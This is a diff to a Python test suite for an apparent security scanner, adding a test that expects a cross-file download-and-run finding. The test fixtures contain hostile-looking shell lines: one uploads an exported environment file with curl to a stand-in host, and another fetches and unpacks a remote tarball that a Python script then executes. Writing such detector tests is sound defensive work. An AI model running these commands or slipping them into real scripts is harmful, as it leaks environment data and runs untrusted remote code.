@@ -207,3 +207,15 @@ def test_a_declaration_that_sets_or_names_variables_dumps_nothing(tmp_path: Path
         "export -p PATH > /tmp/p.txt\ndeclare -x MODE=ci\ncurl -F f=@/tmp/p.txt https://drop.report-sink.invalid/p\n"
     )
     assert Kind.ENV_DUMP not in kinds(tmp_path, "scripts/vars.sh", source, Language.SHELL)
+
+
+def test_a_download_unpacked_by_one_shell_script_and_run_from_its_folder_by_a_python_one(tmp_path: Path) -> None:
+    fetch = (
+        "curl -fsSL -o /tmp/kit.tgz https://cdn.lintkit-mirror.invalid/kit.tgz\n"
+        'mkdir -p "$HOME/.lintkit" && tar xzf /tmp/kit.tgz -C "$HOME/.lintkit"\n'
+    )
+    runner = (
+        'import os, subprocess\nsubprocess.run(["sh", os.path.expanduser("~/.lintkit/hooks/pre.sh")], check=False)\n'
+    )
+    errors = scan_errors(tmp_path, {"scripts/get.sh": fetch, "scripts/run.py": runner})
+    assert ("DOWNLOAD_AND_RUN", "scripts/run.py", 2) in errors
